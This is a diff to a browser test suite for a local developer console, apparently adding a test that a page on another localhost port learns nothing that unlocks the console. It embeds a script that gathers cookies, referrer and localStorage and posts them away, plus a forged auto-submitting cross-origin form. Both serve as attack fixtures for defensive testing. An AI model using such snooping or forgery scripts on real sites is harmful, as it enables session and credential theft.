@@ -1,13 +1,15 @@
 """The console in real headless Chromium, on one live stub-driven `devloop run --console`:
 colours change without a reload, a running test's stdout streams in, a blocked unit calls a
 person (page and webhook) and a hint unblocks it, a review unit waits for its approval, and
-requests without the token or from another origin are refused.
+requests without the token or from another origin are refused, and a server on another port
+that the signed-in browser visits gets nothing that opens the console.
 
 The tests share the run and follow its story in file order; each waits for what it needs.
 """
 
 from __future__ import annotations
 
+import http.client
 import json
 import struct
 import subprocess
@@ -15,12 +17,13 @@ import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
+from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from playwright.sync_api import Browser, BrowserContext
 
 from tests.conftest import REPO
-from tests.console.conftest import LiveConsole, open_page, wait_until
+from tests.console.conftest import PID, LiveConsole, open_page, wait_until
 from tests.workers.runproc import DEVLOOP, clean_env
 from tests.workers.test_flower import listen_addresses
 
@@ -65,8 +68,8 @@ def test_the_console_listens_on_loopback_and_gets_its_token_by_environment_only(
 def test_a_cross_origin_post_is_refused_even_with_the_cookie(
     signed_in: BrowserContext, live: LiveConsole
 ) -> None:
-    # Another port of the same host is the same site: the SameSite cookie goes along, so
-    # the Origin check is what refuses the forged form.
+    # Another port of the same host is the same site: the SameSite cookie goes along (the
+    # page's key does not), and the Origin check refuses the forged form first.
     evil = _serve(f"""<!DOCTYPE html><form method="post" action="{live.url('/cancel')}">
         </form><script>document.forms[0].submit()</script>""")
     try:
@@ -123,7 +126,7 @@ def test_a_review_unit_waits_and_its_approval_in_the_page_releases_its_dependent
     call = _call(live, "gate", "unit_review")
     assert call["console"] == live.url("/u/gate")
 
-    page = open_page(signed_in, live.url("/u/gate"))
+    page = open_page(signed_in, call["console"])  # the webhook's link: no key in it
     diff = page.text_content("#diff") or ""
     assert "code/unit.py" in diff and "+    return 42" in diff and "tests/test_unit.py" in diff
     assert "acceptance criteria 100%" in (page.text_content("[data-coverage]") or "")
@@ -152,6 +155,105 @@ def test_a_running_tests_stdout_appears_in_the_unit_page_while_it_runs(
     assert page.get_attribute('[data-unit-status="slow"]', "data-status") == "testing"
     page.locator("#output", has_text="tick 8").wait_for(timeout=60_000)
     page.wait_for_selector('[data-unit-status="slow"][data-status="passed"]', timeout=WAIT_MS)
+
+
+# What another local user's page runs in the visiting browser: everything it can see.
+SNOOP = """<!DOCTYPE html><title>elsewhere</title><script>
+fetch("/report", {method: "POST", body: JSON.stringify({
+  cookie: document.cookie, referrer: document.referrer, href: location.href,
+  storage: JSON.stringify(window.localStorage)})});
+</script>"""
+
+
+@pytest.mark.timeout(240)
+def test_a_page_on_another_port_receives_nothing_that_opens_the_console(
+    signed_in: BrowserContext, live: LiveConsole
+) -> None:
+    console = open_page(signed_in, live.url())
+    keys = parse_qs(urlsplit(console.url).query).get("key", [])
+    elsewhere = _Recorder(SNOOP)  # a server another user runs on 127.0.0.1
+    try:
+        # The person leaves a console page for it (a Referer would go along), then opens it
+        # in a tab of its own; its script reports what it sees there.
+        console.evaluate(f"window.location.href = {json.dumps(elsewhere.url)}")
+        wait_until("the page's report", lambda: elsewhere.count("POST") >= 1, 30)
+        signed_in.new_page().goto(elsewhere.url)
+        wait_until("the second report", lambda: elsewhere.count("POST") >= 2, 30)
+    finally:
+        elsewhere.close()
+    got = elsewhere.everything()
+    assert live.token not in got and not any(key in got for key in keys)
+    cookies = {c for r in elsewhere.requests if (c := r["headers"].get("cookie"))}
+    assert any(f"devloop_console_{_port(live)}=" in c for c in cookies)  # it did get that
+    # Whatever it got, replayed as curl would, with the console's own Host and Origin.
+    for cookie in cookies:
+        for path in (f"/p/{PID}", f"/p/{PID}/events", f"/p/{PID}/u/a", "/"):
+            assert _replay(live, "GET", path, cookie) in (401, 403), path
+        assert _replay(live, "POST", f"/p/{PID}/cancel", cookie) in (401, 403)
+    assert _paused(live) is None
+
+
+class _Recorder:
+    """A page on another port of 127.0.0.1 that keeps every request it receives."""
+
+    def __init__(self, html: str) -> None:
+        self.requests: list[dict[str, Any]] = []
+        owner, body = self, html.encode()
+
+        class Handler(BaseHTTPRequestHandler):
+            def _keep(self) -> None:
+                size = int(self.headers.get("Content-Length", 0))
+                owner.requests.append({
+                    "method": self.command, "path": self.path,
+                    "headers": {k.lower(): v for k, v in self.headers.items()},
+                    "body": self.rfile.read(size).decode("utf-8", "replace")})
+
+            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+                self._keep()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(body)
+
+            def do_POST(self) -> None:  # noqa: N802 - the stdlib's name
+                self._keep()
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server.server_address[1]}/"
+
+    def count(self, method: str) -> int:
+        return sum(1 for r in self.requests if r["method"] == method)
+
+    def everything(self) -> str:
+        return json.dumps(self.requests)
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _port(live: LiveConsole) -> int:
+    return int(live.base.rsplit(":", 1)[1])
+
+
+def _replay(live: LiveConsole, method: str, path: str, cookie: str) -> int:
+    """The console's answer to a request carrying cookie, Host and Origin its own."""
+    conn = http.client.HTTPConnection("127.0.0.1", _port(live), timeout=30)
+    try:
+        headers = {"Host": f"127.0.0.1:{_port(live)}", "Cookie": cookie, "Origin": live.base}
+        conn.request(method, path, headers=headers)
+        return conn.getresponse().status
+    finally:
+        conn.close()
 
 
 @pytest.mark.timeout(500)
